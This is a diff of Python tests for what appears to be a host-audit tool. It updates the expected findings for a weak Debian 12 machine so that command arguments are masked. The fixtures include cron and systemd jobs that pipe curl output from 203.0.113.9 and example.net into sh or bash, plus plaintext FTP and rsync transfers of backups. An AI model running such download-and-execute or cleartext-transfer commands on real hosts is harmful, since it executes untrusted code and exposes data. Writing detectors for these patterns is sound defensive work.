@@ -17,28 +17,28 @@ def test_jobs_of_a_weak_debian_12() -> None:
     commands = [(one["kind"], one["owner"], one["command"]) for one in own]
     assert ("cron", "root", "/etc/cron.daily/salin") in commands
     assert ("timer", "root", "pemeriksaan.timer") in commands
-    assert ("cron", "www-data", "curl -s http://203.0.113.9/*** | sh") in commands
-    assert ("cron", "root", "/opt/app/start.sh --password ***") in commands
-    assert ("cron", "root", "mkdir -p /srv/x && ssh -p 2222 host true") in commands
+    assert ("cron", "www-data", "curl *** http://203.0.113.9 | sh") in commands
+    assert ("cron", "root", "/opt/app/start.sh ***") in commands
+    assert ("cron", "root", "mkdir *** /srv/x && ssh *** true") in commands
     assert not [one for one in commands if "apt-compat" in one[2] or "e2scrub" in one[2]]
 
 
 def test_jobs_that_fetch_and_run_code() -> None:
     facts = facts_of(recorded("watch", "debian-12-weak"), WATCH)
     assert facts["host.jobs_downloading"] == [
-        "/etc/systemd/system/pemeriksaan.service: /bin/sh -c 'curl -fsSL https://example.net/*** | bash'",
-        "/var/spool/cron/crontabs/www-data: curl -s http://203.0.113.9/*** | sh",
+        "/etc/systemd/system/pemeriksaan.service: /bin/sh -c ' curl *** https://example.net | bash '",
+        "/var/spool/cron/crontabs/www-data: curl *** http://203.0.113.9 | sh",
     ]
 
 
 def test_transfers_in_the_clear() -> None:
     facts = facts_of(recorded("watch", "debian-12-weak"), WATCH)
     assert facts["host.transfer_plain"] == [
-        f"{_TABLE}: curl -u *** -T /srv/backup/db.sql.gz ftp://10.1.0.20/***",
-        "/etc/cron.daily/salin: rsync -a /srv/ 10.1.0.20::backup/",
-        "/usr/local/bin/kirim.sh: ncftpput -u budi -p *** 10.1.0.20 /backup /srv/data.tar",
-        '/usr/local/bin/kirim.sh: wget -q "http://data.example.go.id/***" -O /srv/data.json',
-        "/var/spool/cron/crontabs/www-data: curl -s http://203.0.113.9/*** | sh",
+        f"{_TABLE}: curl *** /srv/backup/db.sql.gz ftp://10.1.0.20",
+        "/etc/cron.daily/salin: rsync *** /srv/ 10.1.0.20::",
+        "/usr/local/bin/kirim.sh: ncftpput *** 10.1.0.20 /backup /srv/data.tar",
+        "/usr/local/bin/kirim.sh: wget *** http://data.example.go.id -o /srv/data.json",
+        "/var/spool/cron/crontabs/www-data: curl *** http://203.0.113.9 | sh",
     ]
 
 
